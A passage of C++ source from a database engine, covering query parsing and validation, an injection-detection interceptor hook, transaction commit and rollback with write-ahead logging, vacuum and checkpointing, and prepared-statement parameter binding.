      ExecContext ctx{catalog_,     session, snapshot,
                      nullptr,      snapshot + 1, true,
                      durable_ ? &journal : nullptr};
      PublishOnExit publish(txn_mgr_, snapshot + 1);
      try {
        rs = execute_statement(ctx, stmt);
      } catch (...) {
        // A failed autocommit statement keeps (and publishes) its partial
        // effects, so the partial journal must hit the log too — replay
        // has to converge on the surviving state. The client gets an
        // error, not an ack, so the record just rides the next fsync.
        if (durable_ && !journal.empty()) {
          try {
            durable_->log_commit(0, std::move(journal));
          } catch (const wal::WalError&) {
            // Could not log the partial effects: log_commit already
            // marked the tables dirty and the writer is now poisoned, so
            // the healing checkpoint folds the effects in before any
            // later record could depend on them. Surface the original
            // statement error, not the WAL one.
          }
        }
        throw;
      }
      if (durable_) lsn = durable_->log_commit(0, std::move(journal));
    }
    // Reclaim the versions this write superseded once nothing can read
    // them. Needs the DDL lock exclusive (see maybe_vacuum), so drop our
    // shared hold first; the try-lock inside skips under reader traffic.
    ddl.unlock();
    if (durable_) durable_->ack_sync(lsn);
    maybe_vacuum();
    maybe_checkpoint();
    return rs;
  }

  // Autocommit read (SELECT / SHOW / DESCRIBE / EXPLAIN): pin the visible
  // timestamp and go — no commit mutex, no table exclusion.
  ExecContext ctx{catalog_, session, txn_mgr_.visible_ts(), nullptr, 0, true};
  return execute_statement(ctx, stmt);
}

ResultSet Database::execute(Session& session, std::string_view raw_sql) {
  // 1. Character-set conversion (where U+02BC becomes a plain quote) —
  // pure text work, outside every lock.
  std::string converted = charset_conversion_
                              ? common::server_charset_convert(raw_sql)
                              : std::string(raw_sql);

  // 1b. Digest-cache fast path: a byte-exact, generation-current entry
  // replays its parse + verdict and skips straight to execution. Bypassed
  // entirely while fault injection is armed — a cached verdict would skip
  // the very failpoint sites a fault test scripts.
  const bool fp_active = common::failpoints::any_armed();
  if (!fp_active) {
    if (std::optional<ResultSet> hit = try_replay_cached(session, converted)) {
      return std::move(*hit);
    }
  }

  // 2+3. Lex, parse — also pure; concurrent connections parse in parallel.
  // The ParsedQuery is heap-shared so a cacheable result can be retained
  // without copying the AST.
  auto parsed = std::make_shared<sql::ParsedQuery>();
  try {
    *parsed = sql::parse(converted);
  } catch (const sql::LexError& e) {
    throw DbError(ErrorCode::kSyntax, std::string("lex error: ") + e.what());
  } catch (const sql::ParseError& e) {
    throw DbError(ErrorCode::kSyntax, std::string("parse error: ") + e.what());
  }
  const sql::StatementKind kind = sql::statement_kind(parsed->statement);

  // Transaction control bypasses the interceptor: BEGIN/COMMIT/ROLLBACK
  // carry no user data and are handled by the facade, which owns the
  // transaction lifecycle.
  if (kind == sql::StatementKind::kTransaction) {
    return handle_transaction(session,
                              std::get<sql::TransactionStmt>(parsed->statement));
  }

  // Capture the DDL tag before validation: a schema change racing any
  // later stage leaves the cached entry conservatively stale.
  const uint64_t ddl_tag = ddl_version_.load(std::memory_order_acquire);

  // 4. Validation against the catalog (shared lock, held briefly): the
  // interceptor must only ever see catalog-valid statements.
  std::shared_ptr<QueryInterceptor> interceptor;
  uint64_t epoch_tag = 0;
  {
    std::shared_lock ddl(ddl_mu_);
    validate_statement(catalog_, parsed->statement);
    interceptor = pinned_interceptor();
    epoch_tag = interceptor_epoch_.load(std::memory_order_relaxed);
  }

  // 5. Item stack + interceptor (SEPTIC's hook point) — outside every
  // lock: this is the per-query detection fast path, and it scales with
  // client count instead of queueing behind the engine.
  std::shared_ptr<txn::Transaction> txn = current_txn(session);
  std::shared_ptr<sql::ItemStack> stack;
  InterceptDecision decision = InterceptDecision::proceed();
  if (interceptor) {
    stack = std::make_shared<sql::ItemStack>(
        sql::build_item_stack(parsed->statement));
    QueryEvent event{*parsed, *stack, session.id(), session.user(),
                     txn != nullptr};
    decision = run_interceptor(*interceptor, event);
    if (!decision.allow) {
      blocked_count_.fetch_add(1, std::memory_order_relaxed);
      std::string reason = decision.reason.empty()
                               ? "query dropped by interceptor"
                               : decision.reason;
      if (txn && decision.abort_txn) {
        // Poisoned-transaction containment: the policy says a blocked
        // statement inside a transaction aborts the whole transaction.
        rollback_txn(txn, /*aborted_on_block=*/true);
        session.set_txn(nullptr);
        reason += " (transaction rolled back)";
      }
      throw DbError(ErrorCode::kBlocked, std::move(reason));
    }
  }

  // 5b. Cache the pipeline result: benign statement of a cacheable kind,
  // with either no interceptor installed (parse-only entry) or an
  // interceptor that marked its verdict replayable. Attack verdicts never
  // get here (the reject threw above).
  if (!fp_active && cacheable_kind(kind) &&
      (!interceptor || decision.cacheable)) {
    auto entry = std::make_shared<QueryDigestCache::Entry>();
    entry->parsed = parsed;
    entry->stack = stack;
    entry->has_verdict = interceptor != nullptr;
    entry->decision = decision;
    entry->payload = decision.cache_payload;
    entry->generations = decision.generations;
    entry->interceptor_epoch = epoch_tag;
    entry->ddl_version = ddl_tag;
    entry->cost = estimate_entry_cost(*parsed, stack.get());
    digest_cache_->insert(std::move(entry));
  }

  // 6. Execution under the context the session's transaction state calls
  // for (see dispatch_execute).
  return dispatch_execute(session, parsed->statement, kind, ddl_tag);
}

ResultSet Database::execute_admin(std::string_view raw_sql) {
  Session admin("admin");
  return execute(admin, raw_sql);
}

ResultSet Database::execute_ddl_in_txn(Session& session, txn::Transaction& t,
                                       const sql::Statement& stmt,
                                       sql::StatementKind kind) {
  std::unique_lock ddl(ddl_mu_);
  validate_statement(catalog_, stmt);

  // Record the inverse operation BEFORE executing, while the pre-statement
  // state is still observable. DDL applies to the shared catalog
  // immediately (other sessions see it — MySQL-style non-transactional
  // DDL), but ROLLBACK replays these undos to restore the pre-transaction
  // catalog.
  std::optional<txn::DdlUndo> undo;
  switch (kind) {
    case sql::StatementKind::kCreate: {
      const auto& ct = std::get<sql::CreateTableStmt>(stmt);
      if (catalog_.find(ct.table) == nullptr) {
        undo = txn::DdlUndo{txn::DdlUndo::Kind::kDropTable, ct.table, "", "",
                            ""};
      }
      break;  // IF NOT EXISTS on an existing table: no-op, nothing to undo
    }
    case sql::StatementKind::kDrop: {
      const auto& d = std::get<sql::DropTableStmt>(stmt);
      if (catalog_.find(d.table) != nullptr) {
        undo = txn::DdlUndo{txn::DdlUndo::Kind::kRestoreTable, d.table, "", "",
                            catalog_.save_table_snapshot(d.table)};
      }
      break;
    }
    case sql::StatementKind::kTruncate: {
      const auto& tr = std::get<sql::TruncateStmt>(stmt);
      undo = txn::DdlUndo{txn::DdlUndo::Kind::kRestoreTable, tr.table, "", "",
                          catalog_.save_table_snapshot(tr.table)};
      break;
    }
    case sql::StatementKind::kCreateIndex: {
      const auto& ci = std::get<sql::CreateIndexStmt>(stmt);
      undo = txn::DdlUndo{txn::DdlUndo::Kind::kDropIndex, ci.table,
                          ci.index_name, "", ""};
      break;
    }
    case sql::StatementKind::kDropIndex: {
      const auto& di = std::get<sql::DropIndexStmt>(stmt);
      for (const auto& [name, column] :
           catalog_.require(di.table).index_defs()) {
        if (name == di.index_name) {
          undo = txn::DdlUndo{txn::DdlUndo::Kind::kCreateIndex, di.table, name,
                              column, ""};
          break;
        }
      }
      break;
    }
    default:
      break;
  }

  executed_count_.fetch_add(1, std::memory_order_relaxed);
  const bool existed = ddl_target_existed(catalog_, stmt, kind);
  ResultSet rs = execute_statement(catalog_, session, stmt);
  const bool had_undo = undo.has_value();
  if (undo) t.ddl_undo.push_back(std::move(*undo));
  ddl_version_.fetch_add(1, std::memory_order_release);
  if (durable_) {
    // The kDdl record carries this statement's undo so recovery can honor
    // it if the crash beats the transaction's end record. No fsync ack:
    // durability is promised at COMMIT, not per in-transaction statement.
    if (auto redo = make_ddl_redo(catalog_, stmt, kind, existed)) {
      std::vector<wal::DdlUndoRedo> wundo;
      if (had_undo) wundo.push_back(to_wal_undo(t.ddl_undo.back()));
      durable_->log_ddl(t.id, std::move(*redo), std::move(wundo));
    }
  }
  return rs;
}

ResultSet Database::handle_transaction(Session& session,
                                       const sql::TransactionStmt& stmt) {
  switch (stmt.op) {
    case sql::TransactionStmt::Op::kBegin:
    case sql::TransactionStmt::Op::kBeginReadOnly: {
      if (current_txn(session)) {
        throw DbError(ErrorCode::kTxnState,
                      "nested transactions are not supported");
      }
      const bool read_only =
          stmt.op == sql::TransactionStmt::Op::kBeginReadOnly;
      session.set_txn(txn_mgr_.begin(session.id(), read_only));
      return {};
    }
    case sql::TransactionStmt::Op::kCommit: {
      std::shared_ptr<txn::Transaction> t = current_txn(session);
      if (!t) {
        throw DbError(ErrorCode::kTxnState, "no transaction to commit");
      }
      commit_txn(session, t);
      return {};
    }
    case sql::TransactionStmt::Op::kRollback: {
      std::shared_ptr<txn::Transaction> t = current_txn(session);
      if (!t) {
        throw DbError(ErrorCode::kTxnState, "no transaction to roll back");
      }
      rollback_txn(t);
      session.set_txn(nullptr);
      return {};
    }
  }
  throw DbError(ErrorCode::kInternal, "unreachable transaction op");
}

void Database::commit_txn(Session& session,
                          const std::shared_ptr<txn::Transaction>& t) {
  if (durable_ && durable_->wal_poisoned()) {
    // Heal before applying anything: the kCommit record could not be
    // logged, and discovering that mid-protocol means unwinding an
    // already-applied write set. The transaction stays open so the
    // client can retry or roll back.
    maybe_checkpoint();
    if (durable_->wal_poisoned()) {
      throw DbError(ErrorCode::kInternal,
                    "WAL writer poisoned by an earlier append failure and "
                    "the healing checkpoint did not run; commit refused "
                    "(transaction still open)");
    }
  }
  uint64_t lsn = 0;
  {
    std::shared_lock ddl(ddl_mu_);
    std::lock_guard commit(txn_mgr_.commit_mu());

    // A transaction that dies here kept its DDL (MySQL-style
    // non-transactional DDL: conflict/constraint abort does not undo it),
    // so the log needs the end marker that tells recovery the same.
    auto log_aborted_end = [&] {
      if (durable_ && !t->ddl_undo.empty()) {
        durable_->log_end_keep_ddl(t->id);
      }
    };

    // First-committer-wins: any base row this transaction rewrote that was
    // itself rewritten (or deleted) after our snapshot aborts the commit.
    for (const auto& [key, w] : t->writes) {
      storage::Table* table = catalog_.find(key);
      if (table == nullptr) {
        if (w.empty()) continue;
        log_aborted_end();
        txn_mgr_.finish(t, txn::TxnState::kRolledBack, /*conflict=*/true);
        session.set_txn(nullptr);
        throw DbError(ErrorCode::kConflict,
                      "table '" + key +
                          "' was dropped by a concurrent statement; "
                          "transaction rolled back");
      }
      auto conflicts_on = [&](size_t slot) {
        return !table->slot_live(slot) ||
               table->slot_begin_ts(slot) > t->snapshot_ts;
      };
      bool conflict = false;
      for (const auto& [slot, row] : w.updates) {
        if (conflicts_on(slot)) conflict = true;
      }
      for (size_t slot : w.deletes) {
        if (conflicts_on(slot)) conflict = true;
      }
      if (conflict) {
        log_aborted_end();
        txn_mgr_.finish(t, txn::TxnState::kRolledBack, /*conflict=*/true);
        session.set_txn(nullptr);
        throw DbError(ErrorCode::kConflict,
                      "write-write conflict: a row written by this "
                      "transaction was modified after its snapshot; "
                      "transaction rolled back");
      }
    }

    // Apply everything at one fresh timestamp; publish only after the last
    // write so readers observe the commit all-or-nothing. If a constraint
    // trips mid-apply (e.g. a duplicate key inserted since our snapshot),
    // unwind the already-applied writes — the burned timestamp must leave
    // no versions behind, or the next publish would make them visible.
    const uint64_t commit_ts = txn_mgr_.visible_ts() + 1;
    struct Applied {
      storage::Table* table;
      enum class Op { kInsert, kUpdate, kErase } op;
      size_t slot;
    };
    std::vector<Applied> applied;
    auto unwind_applied = [&applied] {
      for (auto it = applied.rbegin(); it != applied.rend(); ++it) {
        switch (it->op) {
          case Applied::Op::kInsert: it->table->undo_insert(it->slot); break;
          case Applied::Op::kUpdate: it->table->undo_update(it->slot); break;
          case Applied::Op::kErase: it->table->undo_erase(it->slot); break;
        }
      }
    };
    wal::StatementJournal journal;
    const bool jlog = durable_ != nullptr;
    try {
      for (auto& [key, w] : t->writes) {
        storage::Table* table = catalog_.find(key);
        if (table == nullptr) continue;  // dropped, nothing buffered
        for (size_t slot : w.deletes) {
          table->erase_versioned(slot, commit_ts);
          applied.push_back({table, Applied::Op::kErase, slot});
          if (jlog) journal.push_back(wal::RedoOp::erase(key, slot));
        }
        for (auto& [slot, row] : w.updates) {
          std::vector<std::pair<size_t, sql::Value>> changes;
          changes.reserve(row.size());
          for (size_t i = 0; i < row.size(); ++i) changes.emplace_back(i, row[i]);
          table->update_versioned(slot, changes, commit_ts);
          applied.push_back({table, Applied::Op::kUpdate, slot});
          if (jlog) {
            journal.push_back(
                wal::RedoOp::update(key, slot, std::move(changes)));
          }
        }
        for (auto& opt : w.inserts) {
          if (!opt) continue;
          auto res = table->insert_versioned(storage::Row(*opt), commit_ts);
          applied.push_back({table, Applied::Op::kInsert, res.slot});
          if (jlog) {
            // Log where the row actually landed, with the auto-increment
            // PK the apply resolved (replay can't re-derive reservations
            // burned by rolled-back transactions).
            storage::Row image = *opt;
            int pk = table->schema().primary_key_index();
            if (pk >= 0 && !res.pk_value.is_null()) {
              image[static_cast<size_t>(pk)] = res.pk_value;
            }
            journal.push_back(
                wal::RedoOp::insert(key, res.slot, std::move(image)));
          }
        }
      }
    } catch (const storage::StorageError& e) {
      unwind_applied();
      log_aborted_end();  // writes unwound; DDL (if any) stays
      txn_mgr_.finish(t, txn::TxnState::kRolledBack);
      session.set_txn(nullptr);
      throw DbError(ErrorCode::kConstraint,
                    std::string(e.what()) + "; transaction rolled back");
    }

    // Log before publish: the record precedes visibility, and the ack
    // below happens strictly after. An empty journal still logs when the
    // transaction ran DDL — the kCommit record is its end marker.
    if (durable_ && (!journal.empty() || !t->ddl_undo.empty())) {
      try {
        lsn = durable_->log_commit(t->id, std::move(journal));
      } catch (const wal::WalError& e) {
        // The commit record never reached the log, so the commit must not
        // happen: unwind the applied versions before anything publishes
        // them (the burned timestamp must leave no versions behind). No
        // log_aborted_end here — the writer just poisoned itself, so that
        // append would throw too; the healing checkpoint will capture the
        // surviving in-memory state (including this txn's DDL) instead.
        unwind_applied();
        txn_mgr_.finish(t, txn::TxnState::kRolledBack);
        session.set_txn(nullptr);
        throw DbError(ErrorCode::kInternal,
                      std::string("commit could not be logged: ") + e.what() +
                          "; transaction rolled back");
      }
    }
    txn_mgr_.publish(commit_ts);
    txn_mgr_.finish(t, txn::TxnState::kCommitted);
    session.set_txn(nullptr);
  }
  // Under full durability COMMIT acks only after its record is fsynced;
  // waiting outside every lock lets concurrent committers share one
  // group-commit fsync.
  if (durable_) durable_->ack_sync(lsn);
  maybe_vacuum();
  maybe_checkpoint();
}

void Database::rollback_txn(const std::shared_ptr<txn::Transaction>& t,
                            bool aborted_on_block) {
  if (!t->ddl_undo.empty()) {
    // Replay the undo log in reverse under the exclusive DDL lock, then
    // bump ddl_version_ exactly once: stale digest-cache entries validated
    // against the mid-transaction catalog must not replay against the
    // restored one.
    std::unique_lock ddl(ddl_mu_);
    for (auto it = t->ddl_undo.rbegin(); it != t->ddl_undo.rend(); ++it) {
      try {
        switch (it->kind) {
          case txn::DdlUndo::Kind::kDropTable:
            catalog_.drop_table(it->table, /*if_exists=*/true);
            break;
          case txn::DdlUndo::Kind::kRestoreTable:
            catalog_.restore_table_snapshot(it->snapshot);
            break;
          case txn::DdlUndo::Kind::kDropIndex:
            catalog_.require(it->table).drop_index(it->index);
            break;
          case txn::DdlUndo::Kind::kCreateIndex:
            catalog_.require(it->table).create_index(it->index, it->column);
            break;
        }
      } catch (const std::exception&) {
        // A concurrent DDL removed the object this undo targets; the
        // remaining undos still restore what they can.
      }
    }
    ddl_version_.fetch_add(1, std::memory_order_release);
    if (durable_) {
      // The record carries the undos just applied (in recorded order;
      // recovery replays them reversed, exactly like the loop above), so
      // replay never depends on kDdl records a checkpoint may have
      // retired. Logged under the same exclusive lock that ordered the
      // undo against other DDL.
      std::vector<wal::DdlUndoRedo> wundo;
      wundo.reserve(t->ddl_undo.size());
      for (const txn::DdlUndo& u : t->ddl_undo) {
        wundo.push_back(to_wal_undo(u));
      }
      durable_->log_rollback(t->id, std::move(wundo));
    }
  }
  // A DML-only rollback touches nothing shared: buffered writes die with
  // the write set, and no version bump means cached digest entries stay
  // replayable.
  txn_mgr_.finish(t, txn::TxnState::kRolledBack, /*conflict=*/false,
                  aborted_on_block);
  maybe_vacuum();
  // The end of a transaction may unblock a checkpoint that was deferred
  // while its DDL undo was pending.
  maybe_checkpoint();
}

void Database::rollback_if_owner(uint64_t session_id) {
  std::shared_ptr<txn::Transaction> t = txn_mgr_.find(session_id);
  if (t && t->active()) rollback_txn(t);
}

void Database::maybe_vacuum() {
  // Old versions are only unreachable once no in-flight statement can hold
  // a snapshot older than the horizon. Statements hold ddl_mu_ shared for
  // their whole validate->execute span, so holding it EXCLUSIVE proves the
  // only live snapshots are those of open transactions — which the horizon
  // accounts for. try_lock keeps this strictly opportunistic: contention
  // means someone is working, so skip and let a later commit reclaim.
  bool any = false;
  {
    std::shared_lock ddl(ddl_mu_);
    for (const auto& name : catalog_.table_names()) {
      storage::Table* table = catalog_.find(name);
      if (table != nullptr && table->has_old_versions()) {
        any = true;
        break;
      }
    }
  }
  if (!any) return;
  std::unique_lock ddl(ddl_mu_, std::try_to_lock);
  if (!ddl.owns_lock()) return;
  const uint64_t horizon = txn_mgr_.oldest_snapshot();
  for (const auto& name : catalog_.table_names()) {
    storage::Table* table = catalog_.find(name);
    if (table != nullptr && table->has_old_versions()) {
      table->vacuum(horizon);
    }
  }
}

void Database::set_durability_mode(wal::DurabilityMode m) {
  if (!durable_) return;
  const wal::DurabilityMode prev = durable_->mode();
  if (prev != wal::DurabilityMode::kOff || m == wal::DurabilityMode::kOff) {
    durable_->set_mode(m);
    return;
  }
  // Leaving kOff: mutations made while logging was off never reached the
  // WAL, so records appended from now on would replay against a
  // checkpoint state missing those writes. Fold the current state into a
  // checkpoint FIRST — under the exclusive DDL lock so no record can
  // slip in between — then start logging.
  std::unique_lock ddl(ddl_mu_);
  if (txn_mgr_.any_active_ddl()) {
    throw DbError(ErrorCode::kTxnState,
                  "cannot enable durability while an open transaction holds "
                  "DDL undo");
  }
  // set_mode first: leaving kOff invalidates the checkpoint block cache
  // (off-mode mutations never marked tables dirty). The exclusive lock
  // keeps any record from landing before the checkpoint below.
  durable_->set_mode(m);
  try {
    durable_->checkpoint(catalog_,
                         ddl_version_.load(std::memory_order_acquire));
  } catch (const wal::WalError& e) {
    durable_->set_mode(wal::DurabilityMode::kOff);  // transition aborted
    throw DbError(ErrorCode::kInternal,
                  std::string("cannot enable durability: checkpoint "
                              "failed: ") +
                      e.what());
  }
}

void Database::maybe_checkpoint() {
  if (!durable_ || !durable_->wants_checkpoint()) return;
  // Exclusive DDL lock = writers excluded (the checkpoint() precondition);
  // try_lock keeps this opportunistic, like maybe_vacuum.
  std::unique_lock ddl(ddl_mu_, std::try_to_lock);
  if (!ddl.owns_lock()) return;
  // Rotating the WAL retires kDdl records; defer while any open
  // transaction still needs its undo honored on crash.
  if (txn_mgr_.any_active_ddl()) return;
  try {
    durable_->checkpoint(catalog_,
                         ddl_version_.load(std::memory_order_acquire));
  } catch (const wal::WalError&) {
    // Disk trouble mid-checkpoint leaves the old checkpoint + un-rotated
    // log in place — recovery-correct, just not compacted. A later write
    // retries; the statement that happened to trigger us must not fail.
  }
}

void Database::checkpoint_now() {
  if (!durable_) return;
  std::unique_lock ddl(ddl_mu_);
  if (txn_mgr_.any_active_ddl()) {
    throw DbError(ErrorCode::kTxnState,
                  "cannot checkpoint while an open transaction holds DDL "
                  "undo");
  }
  try {
    durable_->checkpoint(catalog_,
                         ddl_version_.load(std::memory_order_acquire));
  } catch (const wal::WalError& e) {
    throw DbError(ErrorCode::kInternal,
                  std::string("checkpoint failed: ") + e.what());
  }
}

namespace {

void bind_select(sql::SelectStmt& sel, const std::vector<sql::Value>& params,
                 size_t& bound);

void bind_expr(sql::Expr& e, const std::vector<sql::Value>& params,
               size_t& bound) {
  if (e.subquery) bind_select(*e.subquery, params, bound);
  if (e.kind == sql::ExprKind::kPlaceholder) {
    if (e.placeholder_index < 0 ||
        static_cast<size_t>(e.placeholder_index) >= params.size()) {
      throw DbError(ErrorCode::kSyntax,
                    "not enough parameters for prepared statement");
    }
    const sql::Value& v = params[static_cast<size_t>(e.placeholder_index)];
    e.kind = sql::ExprKind::kLiteral;
    e.literal = v;
    e.literal_was_quoted = v.type() == sql::ValueType::kString;
    ++bound;
    return;
  }
  for (auto& c : e.children) bind_expr(*c, params, bound);
}

void bind_select(sql::SelectStmt& sel, const std::vector<sql::Value>& params,
                 size_t& bound) {
  for (auto& it : sel.items) {
    if (it.expr) bind_expr(*it.expr, params, bound);
  }
  for (auto& j : sel.joins) {
    if (j.on) bind_expr(*j.on, params, bound);
  }
  if (sel.where) bind_expr(*sel.where, params, bound);
  for (auto& g : sel.group_by) bind_expr(*g, params, bound);
  if (sel.having) bind_expr(*sel.having, params, bound);
  for (auto& o : sel.order_by) bind_expr(*o.expr, params, bound);
  for (auto& u : sel.unions) bind_select(*u.select, params, bound);
}

// --- placeholder collection (PreparedStatement compile step) -----------
// Mirrors the bind_* traversal, but collects pointers to the placeholder
// expressions instead of rewriting them, so a handle can bind/revert the
// same template any number of times without re-walking the AST.

void collect_select(sql::SelectStmt& sel, std::vector<sql::Expr*>& out);

void collect_expr(sql::Expr& e, std::vector<sql::Expr*>& out) {
  if (e.subquery) collect_select(*e.subquery, out);
  if (e.kind == sql::ExprKind::kPlaceholder) {
    out.push_back(&e);
    return;
  }
  for (auto& c : e.children) collect_expr(*c, out);
}

void collect_select(sql::SelectStmt& sel, std::vector<sql::Expr*>& out) {
  for (auto& it : sel.items) {
    if (it.expr) collect_expr(*it.expr, out);
  }
  for (auto& j : sel.joins) {
    if (j.on) collect_expr(*j.on, out);
  }
  if (sel.where) collect_expr(*sel.where, out);
  for (auto& g : sel.group_by) collect_expr(*g, out);
  if (sel.having) collect_expr(*sel.having, out);
  for (auto& o : sel.order_by) collect_expr(*o.expr, out);
  for (auto& u : sel.unions) collect_select(*u.select, out);
}

void collect_placeholders(sql::Statement& stmt, std::vector<sql::Expr*>& out) {
  switch (sql::statement_kind(stmt)) {
    case sql::StatementKind::kSelect:
      collect_select(*std::get<sql::SelectPtr>(stmt), out);
      break;
    case sql::StatementKind::kInsert:
      for (auto& row : std::get<sql::InsertStmt>(stmt).rows) {
        for (auto& v : row) collect_expr(*v, out);
      }
      break;
    case sql::StatementKind::kUpdate: {
      auto& up = std::get<sql::UpdateStmt>(stmt);
      for (auto& a : up.assignments) collect_expr(*a.value, out);
      if (up.where) collect_expr(*up.where, out);
      break;
    }
    case sql::StatementKind::kDelete: {
      auto& del = std::get<sql::DeleteStmt>(stmt);
      if (del.where) collect_expr(*del.where, out);
      break;
    }
    default:
      break;
  }
}

/// Restores placeholders on every exit path of a handle execution
/// (including executor throws), so the template inside a PreparedStatement
/// stays reusable no matter how this EXEC ends.
class BindReverter {
 public:
  explicit BindReverter(const std::vector<sql::Expr*>& placeholders)
      : placeholders_(placeholders) {}
  ~BindReverter() {
    for (size_t i = 0; i < bound_; ++i) {
      sql::Expr* e = placeholders_[i];
      e->kind = sql::ExprKind::kPlaceholder;
      e->literal = sql::Value();
      e->literal_was_quoted = false;
    }
  }
  void bound_one() { ++bound_; }

 private:
  const std::vector<sql::Expr*>& placeholders_;
  size_t bound_ = 0;
};

/// Substitute every placeholder with its bound parameter; returns how many
/// placeholders were bound.
size_t bind_statement(sql::Statement& stmt,
                      const std::vector<sql::Value>& params) {
  size_t bound = 0;
  switch (sql::statement_kind(stmt)) {
    case sql::StatementKind::kSelect:
      bind_select(*std::get<sql::SelectPtr>(stmt), params, bound);
      break;
    case sql::StatementKind::kInsert:
      for (auto& row : std::get<sql::InsertStmt>(stmt).rows) {
        for (auto& v : row) bind_expr(*v, params, bound);
      }
      break;
    case sql::StatementKind::kUpdate: {
      auto& up = std::get<sql::UpdateStmt>(stmt);
      for (auto& a : up.assignments) bind_expr(*a.value, params, bound);
      if (up.where) bind_expr(*up.where, params, bound);
      break;
    }
    case sql::StatementKind::kDelete: {
      auto& del = std::get<sql::DeleteStmt>(stmt);
      if (del.where) bind_expr(*del.where, params, bound);
      break;
    }
    default:
      break;
  }
  return bound;
}

}  // namespace

ResultSet Database::execute_prepared(Session& session,
                                     std::string_view template_sql,
                                     const std::vector<sql::Value>& params) {
  // The TEMPLATE undergoes charset conversion (it is statement text); the
  // bound parameters do not (they travel as typed data in the binary
  // protocol and can never be re-lexed). Conversion, parse, and binding
  // are all pure per-query work and run outside every lock.
  std::string converted = charset_conversion_
                              ? common::server_charset_convert(template_sql)
                              : std::string(template_sql);

  sql::ParsedQuery parsed;
  try {
    parsed = sql::parse(converted);
  } catch (const sql::LexError& e) {
    throw DbError(ErrorCode::kSyntax, std::string("lex error: ") + e.what());
  } catch (const sql::ParseError& e) {
    throw DbError(ErrorCode::kSyntax, std::string("parse error: ") + e.what());
  }

  if (sql::statement_kind(parsed.statement) ==
      sql::StatementKind::kTransaction) {
    return handle_transaction(session,
                              std::get<sql::TransactionStmt>(parsed.statement));
  }

  size_t bound = bind_statement(parsed.statement, params);
  if (bound != params.size()) {
    throw DbError(ErrorCode::kSyntax,
                  "parameter count mismatch: statement has " +
                      std::to_string(bound) + " placeholder(s), got " +
                      std::to_string(params.size()));
  }

  const uint64_t ddl_tag = ddl_version_.load(std::memory_order_acquire);
  std::shared_ptr<QueryInterceptor> interceptor;
  {
    std::shared_lock ddl(ddl_mu_);
    validate_statement(catalog_, parsed.statement);
    interceptor = pinned_interceptor();
  }

  std::shared_ptr<txn::Transaction> txn = current_txn(session);
  if (interceptor) {
    sql::ItemStack stack = sql::build_item_stack(parsed.statement);
    QueryEvent event{parsed, stack, session.id(), session.user(),
                     txn != nullptr};
    InterceptDecision decision = run_interceptor(*interceptor, event);
    if (!decision.allow) {
      blocked_count_.fetch_add(1, std::memory_order_relaxed);
      std::string reason = decision.reason.empty()
                               ? "query dropped by interceptor"
                               : decision.reason;
      if (txn && decision.abort_txn) {
        rollback_txn(txn, /*aborted_on_block=*/true);
        session.set_txn(nullptr);
        reason += " (transaction rolled back)";
      }
      throw DbError(ErrorCode::kBlocked, std::move(reason));
    }
  }

  return dispatch_execute(session, parsed.statement,
                          sql::statement_kind(parsed.statement), ddl_tag);
}

PreparedStatementPtr Database::prepare(Session& session,
                                       std::string_view template_sql) {
  auto ps = PreparedStatementPtr(new PreparedStatement());

  // The template is statement text: it undergoes the same charset
  // conversion as a direct query, so the interceptor verdicts exactly what
  // will execute.
  std::string converted = charset_conversion_
                              ? common::server_charset_convert(template_sql)
                              : std::string(template_sql);
  ps->parsed_ = std::make_shared<sql::ParsedQuery>();
  try {
    *ps->parsed_ = sql::parse(converted);
  } catch (const sql::LexError& e) {
    throw DbError(ErrorCode::kSyntax, std::string("lex error: ") + e.what());
  } catch (const sql::ParseError& e) {
    throw DbError(ErrorCode::kSyntax, std::string("parse error: ") + e.what());
  }
  ps->kind_ = sql::statement_kind(ps->parsed_->statement);

  // Transaction control carries no user data and bypasses the interceptor
  // (same rule as execute()); the handle just replays handle_transaction.
  if (ps->kind_ == sql::StatementKind::kTransaction) {
    prepared_count_.fetch_add(1, std::memory_order_relaxed);
    return ps;
  }

  collect_placeholders(ps->parsed_->statement, ps->placeholders_);
  std::sort(ps->placeholders_.begin(), ps->placeholders_.end(),
            [](const sql::Expr* a, const sql::Expr* b) {
              return a->placeholder_index < b->placeholder_index;
            });
  for (size_t i = 0; i < ps->placeholders_.size(); ++i) {
    if (ps->placeholders_[i]->placeholder_index != static_cast<int>(i)) {
      throw DbError(ErrorCode::kSyntax,
                    "malformed placeholder numbering in template");
    }
  }

  const uint64_t ddl_tag = ddl_version_.load(std::memory_order_acquire);
  std::shared_ptr<QueryInterceptor> interceptor;
  uint64_t epoch_tag = 0;
  {
    std::shared_lock ddl(ddl_mu_);
    validate_statement(catalog_, ps->parsed_->statement);
    interceptor = pinned_interceptor();
    epoch_tag = interceptor_epoch_.load(std::memory_order_relaxed);
  }
  ps->ddl_version_ = ddl_tag;
  ps->interceptor_epoch_ = epoch_tag;

  if (interceptor) {
    // The PREPARE-time verdict: on_query over the template, placeholders
    // surfacing as PARAM_ITEM wildcard data nodes. A blocked template is
    // refused here, before any handle (or statement id) exists — the
    // attack never gains an EXEC surface.
    ps->stack_ = std::make_shared<const sql::ItemStack>(
        sql::build_item_stack(ps->parsed_->statement));
    std::shared_ptr<txn::Transaction> txn = current_txn(session);
    QueryEvent event{*ps->parsed_, *ps->stack_, session.id(), session.user(),
                     txn != nullptr};
    InterceptDecision decision = run_interceptor(*interceptor, event);
    if (!decision.allow) {
      blocked_count_.fetch_add(1, std::memory_order_relaxed);
      std::string reason = decision.reason.empty()
                               ? "query dropped by interceptor"
                               : decision.reason;
      if (txn && decision.abort_txn) {
        rollback_txn(txn, /*aborted_on_block=*/true);
        session.set_txn(nullptr);
        reason += " (transaction rolled back)";
      }
      throw DbError(ErrorCode::kBlocked, std::move(reason));
    }
    ps->decision_ = std::move(decision);
    ps->has_verdict_ = true;
  }
  prepared_count_.fetch_add(1, std::memory_order_relaxed);
  return ps;
}

ResultSet Database::execute_prepared(Session& session, PreparedStatement& ps,
                                     const std::vector<sql::Value>& params) {
  if (ps.kind_ == sql::StatementKind::kTransaction) {
    return handle_transaction(
        session, std::get<sql::TransactionStmt>(ps.parsed_->statement));
  }
  if (params.size() != ps.placeholders_.size()) {
    throw DbError(ErrorCode::kSyntax,
                  "parameter count mismatch: statement has " +
                      std::to_string(ps.placeholders_.size()) +
                      " placeholder(s), got " + std::to_string(params.size()));
  }

  // Currency gates — three atomic loads in steady state. A moved catalog
  // re-validates the template; a swapped interceptor or stale interceptor
  // generations re-run on_query once and re-cache in the handle.
  const uint64_t ddl_tag = ddl_version_.load(std::memory_order_acquire);
  if (ddl_tag != ps.ddl_version_) {
    std::shared_lock ddl(ddl_mu_);
    validate_statement(catalog_, ps.parsed_->statement);
